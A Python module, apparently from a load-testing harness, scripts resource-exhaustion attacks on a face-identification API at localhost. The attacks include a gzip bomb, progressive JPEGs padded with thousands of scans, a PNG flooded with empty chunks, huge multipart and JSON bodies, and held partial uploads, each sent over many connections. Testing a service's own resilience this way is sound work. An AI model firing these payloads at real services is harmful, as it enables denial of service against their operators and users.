"""Attacks by somebody who has a good key with the scope `identify`, on whoever has another one."""

from __future__ import annotations

import base64
import io
import itertools
import struct
import zlib
from collections import Counter
from collections.abc import Callable
from functools import cache, partial

import PIL.Image

from attacks.target import Attacks, Next, Target, swarm

attacks = Attacks()

_JSON = b"application/json"
_FORM = b"multipart/form-data; boundary=b"


def request(target: Target, path: bytes, content_type: bytes, body: bytes, more: bytes = b"") -> bytes:
    """A request with the attacker's key."""
    head = b"POST /v1/%s HTTP/1.1\r\nHost: localhost\r\nX-API-Key: %s\r\nContent-Type: %s\r\n%s" % (
        path, (target.key or "").encode(), content_type, more,
    )  # fmt: skip
    return head + b"Content-Length: %d\r\n\r\n" % len(body) + body


def again(request: bytes) -> Callable[[], Next]:
    """A script of one request, sent again and again."""
    return lambda: partial(next, itertools.repeat(request))


def part(name: bytes, data: bytes, head: bytes = b"") -> bytes:
    """Of a form, with a file."""
    return b'--b\r\nContent-Disposition: form-data; name="%s"; filename="a"%s\r\n\r\n%s\r\n' % (
        name,
        head,
        data,
    )


def send(target: Target, seen: Counter[str], number: int, *whole: object) -> None:
    """The same request over so many connections."""
    swarm(target, seen, number, again(request(target, *whole)))  # type: ignore[arg-type]


@attacks.add("60 MiB of lists, 8 connections", keyed=True)
def lists(target: Target, seen: Counter[str]) -> None:
    """Where photos are asked for."""
    send(target, seen, 8, b"cluster", _JSON, b'{"photos":[' + b"[]," * (20 << 20) + b"[]]}")


@attacks.add("16 MiB of photos of one byte, 8 connections", keyed=True)
def photos_of_a_byte(target: Target, seen: Counter[str]) -> None:
    """As base64."""
    send(target, seen, 8, b"cluster", _JSON, b'{"photos":[' + b'"AA==",' * (2 << 20) + b'"AA=="]}')


@attacks.add("266,305 parts of a form, 8 connections", keyed=True)
def parts(target: Target, seen: Counter[str]) -> None:
    """Each a photo."""
    send(target, seen, 8, b"cluster", _FORM, part(b"photos", b"x") * 266_305 + b"--b--")


@attacks.add("60 MiB of base64 that is none, 8 connections", keyed=True)
def base64_of_nothing(target: Target, seen: Counter[str]) -> None:
    """As much as may come, with a letter that makes four bytes of each."""
    photo = base64.b64encode(bytes(9 << 20))
    send(
        target,
        seen,
        8,
        b"cluster",
        _JSON,
        '{"name":"🙂","photos":["'.encode() + b'","'.join([photo] * 4) + b'"]}',
    )


@attacks.add("a bomb of gzip, 8 connections", keyed=True)
def gzip(target: Target, seen: Counter[str]) -> None:
    """Hundred times its size, as much as may come."""
    packer = zlib.compressobj(1, wbits=31)
    body = packer.compress(bytes(range(97)) * (600 << 10)) + packer.flush()
    send(target, seen, 8, b"cluster", _JSON, body, b"Content-Encoding: gzip\r\n")


@cache
def _scans(side: int, number: int) -> bytes:
    """A progressive JPEG of one colour with so many scans more than it needs."""
    file = io.BytesIO()
    PIL.Image.new("RGB", (side, side), (90, 120, 200)).save(file, "JPEG", progressive=True)
    data = file.getvalue()
    last, end = data.rindex(b"\xff\xda"), data.rindex(b"\xff\xd9")
    return data[:end] + data[last:end] * number + data[end:]


@attacks.add("3,000 scans of a JPEG, 32 connections", keyed=True)
def scans(target: Target, seen: Counter[str]) -> None:
    """Of the largest pixels that are taken."""
    send(target, seen, 32, b"identify", _FORM, part(b"photo", _scans(6000, 3000)) + b"--b--")


@attacks.add("as many scans as are taken, 64 connections", keyed=True)
def allowed_scans(target: Target, seen: Counter[str]) -> None:
    """The most work that a photo may be."""
    send(target, seen, 64, b"identify", _FORM, part(b"photo", _scans(6200, 10)) + b"--b--")


@attacks.add("PNGs of 40 megapixels, 64 connections", keyed=True)
def large(target: Target, seen: Counter[str]) -> None:
    """Of little bytes."""
    file = io.BytesIO()
    PIL.Image.new("RGB", (6300, 6300)).save(file, "PNG")
    send(target, seen, 64, b"identify", _FORM, part(b"photo", file.getvalue()) + b"--b--")


@attacks.add("fifty photos a request, 64 connections", keyed=True)
def many(target: Target, seen: Counter[str]) -> None:
    """With a face each."""
    send(target, seen, 64, b"cluster", _FORM, part(b"photos", target.photo) * 50 + b"--b--")


@attacks.add("chunks of a PNG, 32 connections", keyed=True)
def chunks(target: Target, seen: Counter[str]) -> None:
    """Each of them empty."""
    file = io.BytesIO()
    PIL.Image.new("L", (8, 8)).save(file, "PNG")
    empty = struct.pack(">I", 0) + b"tEXt" + struct.pack(">I", zlib.crc32(b"tEXt"))
    data = file.getvalue()
    send(
        target,
        seen,
        32,
        b"identify",
        _FORM,
        part(b"photo", data[:33] + empty * 800_000 + data[33:]) + b"--b--",
    )


@attacks.add("photos that are none, 64 connections", keyed=True)
def no_photos(target: Target, seen: Counter[str]) -> None:
    """Each fails, and is to be recorded."""
    send(target, seen, 64, b"identify", _FORM, part(b"photo", b"no photo") + b"--b--")


@attacks.add("what the key may not do, 64 connections", keyed=True)
def refused(target: Target, seen: Counter[str]) -> None:
    """Each is to be recorded."""
    line = (
        b"DELETE /v1/people/1 HTTP/1.1\r\nHost: localhost\r\nX-API-Key: %s\r\n\r\n"
        % (target.key or "").encode()
    )
    swarm(target, seen, 64, again(line))


@attacks.add("large uploads that are held, 64 connections", keyed=True)
def held(target: Target, seen: Counter[str]) -> None:
    """All but the last byte, to fill the memory for uploads."""
    whole = request(target, b"cluster", _FORM, part(b"photos", bytes(9 << 20)) * 6 + b"--b--")
    swarm(target, seen, 64, lambda: partial(next, iter([whole[:-1]]), None))


@attacks.add("honest photos as fast as they are answered, 64 connections", keyed=True)
def honest(target: Target, seen: Counter[str]) -> None:
    """More than there are workers for."""
    send(target, seen, 64, b"identify", _FORM, part(b"photo", target.photo) + b"--b--")
